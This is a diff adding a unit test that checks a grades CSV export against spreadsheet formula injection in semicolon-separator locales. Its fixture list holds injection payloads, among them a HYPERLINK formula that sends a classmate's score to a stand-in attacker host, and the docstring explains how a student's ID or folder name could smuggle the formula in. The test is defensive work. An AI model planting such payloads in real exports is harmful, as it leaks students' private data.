@@ -77,3 +77,21 @@ def test_a_folder_named_like_a_classmate_plus_a_control_character_is_its_own_row
         # and they look different: nothing invisible (zero-width, bidi marks, separators) is left in
         assert not [c for cell in cells for c in cell if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
         assert victim in cells or not victim.isalnum()   # an ordinary name is shown as it is
+
+
+# Where ';' is the list separator (German, French, Italian… Excel and LibreOffice), opening the CSV
+# splits every unquoted cell at its ';' (csv quotes only a cell holding ',', '"' or a line break).
+SEMICOLON_FORMULAS = ['x;=HYPERLINK("http://attacker.example/?"&B2)', "bob;+1+1", "amy;@SUM(1)", "eve;-2+3"]
+
+
+def test_no_part_of_a_cell_starts_a_formula_where_semicolon_is_the_list_separator():
+    """A student types STUDENT_ID = 'x;=HYPERLINK("http://attacker.example/?"&B2)' (the flags
+    column quotes it), or names their folder 'bob;+1+1': csv_cell and student_cell guarded only a
+    cell's first character, and a spreadsheet of a ';' locale read the part after the ';' as a
+    formula of its own (a link sending a classmate's score away when the instructor clicks it)."""
+    results = [result(name, 50, declared) for name, declared in zip(SEMICOLON_FORMULAS, reversed(SEMICOLON_FORMULAS))]
+    written = grades_csv(CONFIG, results)
+    for cell in (c for row in csv.reader(io.StringIO(written, newline=""), delimiter=";") for c in row):
+        assert not cell.startswith(("=", "+", "-", "@")), cell
+    names = [row[0] for row in csv.reader(io.StringIO(written, newline=""))][1:]
+    assert len(set(names)) == len(SEMICOLON_FORMULAS)   # still one row per student, each its own
